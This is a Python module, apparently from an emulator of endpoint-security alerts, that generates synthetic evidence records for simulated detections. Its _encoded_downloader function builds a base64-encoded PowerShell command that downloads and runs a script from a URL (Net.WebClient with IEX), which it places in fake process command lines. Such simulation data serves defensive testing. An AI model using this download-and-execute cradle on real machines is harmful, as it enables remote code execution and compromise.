"""Evidence lists for alerts: User, Process, File, Ip and Url items that tell one story.

Every evidence dict has all 25 keys of the service's evidence object, null where not
relevant. Files come from the registry, so their hashes match the File entities."""

from __future__ import annotations

import base64
import random
from dataclasses import dataclass

from mdekit.emulator.world.catalog_files import FILES_BY_KEY
from mdekit.emulator.world.catalog_threats import C2_ADDRESSES, MALICIOUS_HOSTS, Scenario
from mdekit.emulator.world.entities import FileRegistry, NetworkRegistry
from mdekit.emulator.world.model import MachineProfile, UserProfile, WireDict
from mdekit.emulator.world.ticks import TICKS_PER_MINUTE, TICKS_PER_SECOND, TickFormatter

EMPTY_EVIDENCE: WireDict = dict.fromkeys(
    (
        "entityType",
        "evidenceCreationTime",
        "sha1",
        "sha256",
        "fileName",
        "filePath",
        "processId",
        "processCommandLine",
        "processCreationTime",
        "parentProcessId",
        "parentProcessCreationTime",
        "parentProcessFileName",
        "parentProcessFilePath",
        "ipAddress",
        "url",
        "registryKey",
        "registryHive",
        "registryValueType",
        "registryValue",
        "accountName",
        "domainName",
        "userSid",
        "aadUserId",
        "userPrincipalName",
        "detectionStatus",
    )
)
"""The evidence object with every key null, in the service's key order."""


@dataclass
class Story:
    """What one alert's evidence says happened, for the caller to reuse."""

    evidence: list[WireDict]
    remote_ip: str | None = None
    url: str | None = None


class EvidenceBuilder:
    """Builds evidence for a scenario on a device; records files, IPs and hosts seen."""

    def __init__(
        self,
        rng: random.Random,
        fmt: TickFormatter,
        files: FileRegistry,
        network: NetworkRegistry,
        machines: list[MachineProfile],
    ) -> None:
        self._rng = rng
        self._fmt = fmt
        self._files = files
        self._network = network
        self._machines = machines

    def build(
        self,
        scenario: Scenario,
        machine: MachineProfile,
        user: UserProfile | None,
        first_event: int,
        created: int,
    ) -> Story:
        """Evidence in the service's usual order: User, Process, File, then Ip or Url."""
        rng, fmt = self._rng, self._fmt
        stamp = fmt.iso(created + int((0.2 + rng.random() * 1.5) * TICKS_PER_SECOND))
        account = user.account_name if user is not None else "system"
        story = Story(evidence=[])
        remote = self._remote(scenario, machine, first_event)
        story.remote_ip, story.url = remote
        if user is not None and scenario.has_user:
            item = dict(EMPTY_EVIDENCE)
            item["entityType"] = "User"
            item["evidenceCreationTime"] = stamp
            item["accountName"] = user.account_name
            item["domainName"] = user.netbios_domain
            item["userSid"] = user.sid
            item["aadUserId"] = user.aad_user_id
            item["userPrincipalName"] = user.upn
            story.evidence.append(item)
        if scenario.process is not None:
            story.evidence.append(
                self._process(scenario, machine, account, first_event, stamp, remote)
            )
        if scenario.payload is not None:
            spec = FILES_BY_KEY[scenario.payload]
            facts = self._files.observe(scenario.payload, first_event, machine.index)
            item = dict(EMPTY_EVIDENCE)
            item["entityType"] = "File"
            item["evidenceCreationTime"] = stamp
            item["sha1"] = facts.sha1
            item["sha256"] = facts.sha256
            item["fileName"] = spec.name
            item["filePath"] = spec.folder.replace("{user}", account)
            item["detectionStatus"] = scenario.file_status
            story.evidence.append(item)
        if story.remote_ip is not None:
            item = dict(EMPTY_EVIDENCE)
            item["entityType"] = "Ip"
            item["evidenceCreationTime"] = stamp
            item["ipAddress"] = story.remote_ip
            story.evidence.append(item)
        if story.url is not None:
            item = dict(EMPTY_EVIDENCE)
            item["entityType"] = "Url"
            item["evidenceCreationTime"] = stamp
            item["url"] = story.url
            story.evidence.append(item)
        return story

    def _remote(
        self, scenario: Scenario, machine: MachineProfile, ticks: int
    ) -> tuple[str | None, str | None]:
        rng = self._rng
        if scenario.network == "c2":
            address = C2_ADDRESSES[int(rng.random() * len(C2_ADDRESSES))]
            self._network.observe_ip(address, ticks, machine.index)
            return address, None
        if scenario.network == "peer" and len(self._machines) > 1:
            peer = self._machines[int(rng.random() * len(self._machines))]
            if peer.index == machine.index:
                peer = self._machines[(machine.index + 1) % len(self._machines)]
            self._network.observe_ip(peer.local_ip, ticks, machine.index)
            return peer.local_ip, None
        if scenario.network == "url":
            host = MALICIOUS_HOSTS[int(rng.random() * len(MALICIOUS_HOSTS))]
            self._network.observe_host(host, ticks, machine.index)
            return None, f"https://{host}{scenario.url_path}"
        return None, None

    def _process(
        self,
        scenario: Scenario,
        machine: MachineProfile,
        account: str,
        first_event: int,
        stamp: str,
        remote: tuple[str | None, str | None],
    ) -> WireDict:
        assert scenario.process is not None
        rng, fmt = self._rng, self._fmt
        image_key, parent_key, template = scenario.process
        image, parent = FILES_BY_KEY[image_key], FILES_BY_KEY[parent_key]
        facts = self._files.observe(image_key, first_event, machine.index)
        self._files.observe(parent_key, first_event, machine.index)
        temp = f"C:\\Users\\{account}\\AppData\\Local\\Temp"
        values = {
            "user": account,
            "temp": temp,
            "downloads": f"C:\\Users\\{account}\\Downloads",
            "url": remote[1] or "",
            "c2": remote[0] or "",
            "b64": _encoded_downloader(rng.randbytes(60), remote[1] or ""),
            "b64short": base64.b64encode(rng.randbytes(9)).decode(),
        }
        parent_started = first_event - int((1 + rng.random() * 600) * TICKS_PER_MINUTE)
        item = dict(EMPTY_EVIDENCE)
        item["entityType"] = "Process"
        item["evidenceCreationTime"] = stamp
        item["sha1"] = facts.sha1
        item["sha256"] = facts.sha256
        item["fileName"] = image.name
        item["filePath"] = image.folder.replace("{user}", account)
        item["processId"] = _pid(rng, machine.family)
        item["processCommandLine"] = template.format_map(values)
        item["processCreationTime"] = fmt.iso(first_event)
        item["parentProcessId"] = _pid(rng, machine.family)
        item["parentProcessCreationTime"] = fmt.iso(max(parent_started, machine.first_seen_ticks))
        item["parentProcessFileName"] = parent.name
        item["parentProcessFilePath"] = parent.folder.replace("{user}", account)
        item["detectionStatus"] = "Detected"
        return item


def _encoded_downloader(seed: bytes, url: str) -> str:
    """A PowerShell -EncodedCommand argument (UTF-16LE base64) that runs a script from `url`.

    `seed` varies the variable name, so each alert's command line is its own."""
    variable = "".join(chr(97 + b % 26) for b in seed[:6])
    script = f"${variable}=New-Object Net.WebClient;IEX ${variable}.DownloadString('{url}')"
    return base64.b64encode(script.encode("utf-16-le")).decode()


def _pid(rng: random.Random, family: str) -> int:
    """A process id: multiples of 4 on Windows, small integers elsewhere."""
    if family == "windows":
        return 4 * (100 + int(rng.random() * 6000))
    return 300 + int(rng.random() * 60_000)
